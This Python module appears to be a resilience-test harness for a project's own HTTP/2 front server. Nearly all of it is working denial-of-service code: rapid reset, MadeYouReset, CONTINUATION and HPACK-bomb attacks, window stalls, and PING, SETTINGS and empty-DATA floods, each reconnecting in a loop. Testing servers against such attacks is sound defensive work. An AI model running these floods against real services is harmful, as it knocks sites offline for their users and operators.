"""Attacks over HTTP/2. Each function has the front's TLS port and runs until its process is ended; a closed connection is opened again.

One attacker: one connection at a time, at most about 2,000 frames a second, so that the attack costs the front and not the machine.
"""

import time

from web.frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, Peer, frame,
                        headers, literal, block, request, settings)

# Settings: INITIAL_WINDOW_SIZE (RFC 9113 §6.5.2).
WINDOW = 4
BURST, PAUSE = 20, 0.01


def paced(port, burst, pairs=()):
    """Calls `burst(peer, first stream number)` 100 times a second on a connection that is opened again when it was closed."""
    while True:
        try:
            peer = Peer(port, pairs=pairs)
        except OSError:
            time.sleep(PAUSE)
            continue
        stream = 1
        while stream < 1 << 30:
            data, stream = burst(stream)
            if not peer.send(data):
                break
            # What the front sends is read, so that it is not its writing that blocks.
            while peer.next(time.monotonic() + PAUSE):
                pass
            if peer.ended or peer.goaway is not None:
                break
        peer.close()


def rapid_reset(port):
    """CVE-2023-44487: a request, and at once its reset; 1,000 and more a second."""
    requests_with(port, RST_STREAM, b"\0\0\0\x08")


def made_you_reset(port):
    """CVE-2025-8671: a request, and a frame for which the front must reset the stream itself (a window update of 0)."""
    requests_with(port, WINDOW_UPDATE, b"\0\0\0\0")


def requests_with(port, kind, payload):
    """Requests without end, each followed by a frame of its stream."""

    def burst(stream):
        out = b"".join(headers(number, request(b"/slow?ms=50")) + frame(kind, 0, number, payload)
                       for number in range(stream, stream + 2 * BURST, 2))
        return out, stream + 2 * BURST

    paced(port, burst)


def continuation_flood(port):
    """CVE-2024-27316 and its like: a header block without an end."""

    def burst(stream):
        first = frame(HEADERS, END_STREAM, 1, block(request(b"/bytes?n=1"))) if stream == 1 else b""
        piece = b"".join(literal(b"x%d" % (stream + number), b"y" * 60) for number in range(20))
        return first + b"".join(frame(CONTINUATION, 0, 1, piece) for _ in range(5)), stream + 2

    paced(port, burst)


def hpack_bomb(port):
    """CVE-2026-49975: one large field in the table, then one byte for each copy, and a closed window so that nothing is given back."""
    large = b"\x40" + literal(b"x-large", b"y" * 3000)[1:]

    def burst(stream):
        # Index 62 is the newest entry of the dynamic table (RFC 7541 §2.3.3).
        first = large if stream == 1 else b""
        head = frame(HEADERS, END_HEADERS | END_STREAM, stream, block(request(b"/bytes?n=100000")) + first + b"\xbe" * 8000)
        return head, stream + 2

    paced(port, burst, pairs=[(WINDOW, 0)])


def window_stall(port):
    """100 large responses that are requested and never taken."""

    def burst(stream):
        if stream > 200:
            return b"", stream
        return headers(stream, request(b"/bytes?n=1000000")), stream + 2

    paced(port, burst, pairs=[(WINDOW, 0)])


def ping_flood(port):
    paced(port, lambda stream: (frame(PING, 0, 0, b"12345678") * BURST, stream + 2))


def settings_flood(port):
    paced(port, lambda stream: (settings([(WINDOW, 65535)]) * BURST, stream + 2))


def settings_ack_flood(port):
    """Acknowledgements that nothing asked for."""
    paced(port, lambda stream: (frame(SETTINGS, ACK, 0) * BURST, stream + 2))


def empty_data_flood(port):
    """CVE-2019-9518: DATA frames without content that do not end the request."""

    def burst(stream):
        first = headers(1, request(b"/sum", method=b"POST"), end=False) if stream == 1 else b""
        return first + frame(DATA, 0, 1) * BURST, stream + 2

    paced(port, burst)


def thousand_streams(port):
    """1,000 requests at once, without regard to the front's limit."""

    def burst(stream):
        if stream > 1:
            return b"", stream
        return b"".join(headers(number, request(b"/slow?ms=500")) for number in range(1, 2001, 2)), stream + 2000

    paced(port, burst)


ATTACKS = {"rapid reset": rapid_reset, "MadeYouReset": made_you_reset, "CONTINUATION flood": continuation_flood, "HPACK bomb": hpack_bomb,
           "window stall": window_stall, "PING flood": ping_flood, "SETTINGS flood": settings_flood, "SETTINGS ACK flood": settings_ack_flood,
           "empty DATA flood": empty_data_flood, "1,000 streams": thousand_streams}
